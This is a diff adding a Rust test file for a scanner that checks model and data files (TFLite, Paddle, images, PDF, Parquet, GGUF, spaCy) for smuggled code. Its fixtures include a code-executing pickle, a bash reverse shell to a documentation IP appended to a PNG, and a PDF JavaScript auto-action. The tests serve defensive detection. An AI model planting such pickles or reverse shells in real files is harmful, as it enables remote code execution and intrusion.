@@ -1,0 +1,174 @@
+//! Formats that are not pickles: what each can carry, beside an honest file of its kind.
+
+use bartizan_artifact::{Limits, Report, Verdict, model};
+
+const PICKLE: &[u8] = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x04true\x85R.";
+
+fn scan(name: &str, bytes: &[u8]) -> Report {
+    model(name, &bytes.to_vec(), &Limits::default())
+}
+
+fn check(name: &str, bytes: &[u8], verdict: Verdict) {
+    let report = scan(name, bytes);
+    assert_eq!(report.verdict, verdict, "{name}: {:#?}", report.findings);
+}
+
+/// A model of TFLite with one custom operator.
+fn tflite(operator: &str) -> Vec<u8> {
+    let mut bytes = Vec::new();
+    bytes.extend(16_u32.to_le_bytes());
+    bytes.extend(b"TFL3");
+    // Where the fields of the model lie, the model, its list, where those of the operator lie, the operator, its name.
+    bytes.extend([8, 0, 8, 0, 0, 0, 4, 0]);
+    bytes.extend([8, 0, 0, 0, 4, 0, 0, 0]);
+    bytes.extend([1, 0, 0, 0, 12, 0, 0, 0]);
+    bytes.extend([8, 0, 8, 0, 0, 0, 4, 0]);
+    bytes.extend([8, 0, 0, 0, 4, 0, 0, 0]);
+    bytes.extend((operator.len() as u32).to_le_bytes());
+    bytes.extend(operator.as_bytes());
+    bytes.push(0);
+    bytes
+}
+
+#[test]
+fn operators_of_tflite() {
+    check(
+        "x.tflite",
+        &tflite("TFLite_Detection_PostProcess"),
+        Verdict::Clean,
+    );
+    check("x.tflite", &tflite("FlexAddV2"), Verdict::Clean);
+    check("x.tflite", &tflite("Somebodys"), Verdict::Unknown);
+    check("x.tflite", &tflite("FlexPyFunc"), Verdict::Malicious);
+    check("x.tflite", &tflite("FlexShellExecute"), Verdict::Suspicious);
+}
+
+#[test]
+fn programs_of_paddle() {
+    let program = |operator: &str| {
+        let named = [&[0x1a, operator.len() as u8][..], operator.as_bytes()].concat();
+        let operator = [&[0x22, named.len() as u8][..], &named].concat();
+        [&[0x0a, operator.len() as u8][..], &operator].concat()
+    };
+    check("inference.pdmodel", &program("conv2d"), Verdict::Clean);
+    check("inference.pdmodel", &program("py_func"), Verdict::Malicious);
+    check("inference.pdmodel", b"\x0a\xff", Verdict::Unknown);
+}
+
+#[test]
+fn what_pictures_and_documents_carry() {
+    let png = b"\x89PNG\r\n\x1a\n\0\0\0\0IEND\xaeB`\x82";
+    check("x.png", png, Verdict::Clean);
+    check("x.png", &[&png[..], b"\n"].concat(), Verdict::Clean);
+    for behind in [
+        PICKLE,
+        b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n",
+        b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
+    ] {
+        let report = scan("x.png", &[&png[..], behind].concat());
+        assert!(report.verdict >= Verdict::Suspicious, "{:#?}", report.findings);
+    }
+    let jpeg = [
+        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0",
+        PICKLE,
+        b"\xff\xd9",
+    ]
+    .concat();
+    check("x.jpg", &jpeg, Verdict::Suspicious);
+    check(
+        "x.jpg",
+        b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9",
+        Verdict::Clean,
+    );
+    check(
+        "x.pdf",
+        b"%PDF-1.5\n%\xbf\xf7\xa2\xfe\n/OpenAction [2 0 R /Fit]\n",
+        Verdict::Clean,
+    );
+    check(
+        "x.pdf",
+        b"%PDF-1.5\n/OpenAction << /S /JavaScript /JS (x) >>\n",
+        Verdict::Suspicious,
+    );
+}
+
+#[test]
+fn types_of_arrow_that_unpickle_themselves() {
+    check(
+        "x.parquet",
+        &[b"PAR1", &[0; 64][..], b"PAR1"].concat(),
+        Verdict::Clean,
+    );
+    check(
+        "x.feather",
+        &[b"ARROW1\0\0", &[0; 64][..], b"arrow.py_extension_type", b"ARROW1"].concat(),
+        Verdict::Malicious,
+    );
+    for written in [
+        "YXJyb3cucHlfZXh0ZW5zaW9uX3R5cGU=",
+        "AGFycm93LnB5X2V4dGVuc2lvbl90eXBl",
+        "AABhcnJvdy5weV9leHRlbnNpb25fdHlwZQ==",
+    ] {
+        check(
+            "x.parquet",
+            &[b"PAR1", &[0; 64][..], written.as_bytes(), b"PAR1"].concat(),
+            Verdict::Malicious,
+        );
+    }
+}
+
+#[test]
+fn what_follows_the_tensors_of_gguf() {
+    let mut bytes = b"GGUF\x03\0\0\0".to_vec();
+    bytes.extend(1_u64.to_le_bytes());
+    bytes.extend(0_u64.to_le_bytes());
+    bytes.extend(1_u64.to_le_bytes());
+    bytes.push(b'w');
+    bytes.extend(1_u32.to_le_bytes());
+    bytes.extend(8_u64.to_le_bytes());
+    bytes.extend(0_u32.to_le_bytes());
+    bytes.extend(0_u64.to_le_bytes());
+    bytes.resize(bytes.len().next_multiple_of(32) + 32, 0);
+    check("x.gguf", &bytes, Verdict::Clean);
+    check("x.gguf", &[&bytes[..], PICKLE].concat(), Verdict::Unknown);
+}
+
+#[test]
+fn programs_whatever_they_are_called() {
+    let windows = [b"MZ", &[0; 58][..], &64_u32.to_le_bytes(), b"PE\0\0", &[0; 32]].concat();
+    for (name, bytes) in [
+        ("x.llamafile", &b"MZqFpD='\n\0\0"[..]),
+        ("weights.bin", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0"),
+        ("weights.bin", &windows),
+        ("x.bin", b"\xca\xfe\xba\xbe\0\0\0\x02\0\0\0\0"),
+        ("x.dat", b"\0asm\x01\0\0\0"),
+    ] {
+        let report = scan(name, bytes);
+        assert!(
+            report.verdict >= Verdict::Suspicious,
+            "{name}: {:#?}",
+            report.findings
+        );
+    }
+    check("x.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0", Verdict::Clean);
+    check(
+        "x.sqlite3",
+        b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20",
+        Verdict::Clean,
+    );
+    check("ggml-base.bin", b"lmgg\x10\0\0\0\0\0\0\0", Verdict::Clean);
+}
+
+/// A part of a spaCy pipeline: MessagePack without an ending; arrays of objects are pickles in it.
+#[test]
+fn parts_of_spacy() {
+    let honest = b"\x82\xa5nodes\x91\x81\xa5index\x00\xa6params\x91\x81\xa1W\xc4\x04\0\0\x80?";
+    check("ner/model", honest, Verdict::Clean);
+    let carried = [&b"\x81\xa4data\xc4"[..], &[PICKLE.len() as u8], PICKLE].concat();
+    check("ner/model", &carried, Verdict::Malicious);
+    check(
+        "ner/model",
+        &[&honest[..], b"\xc1\xc1"].concat(),
+        Verdict::Unknown,
+    );
+}
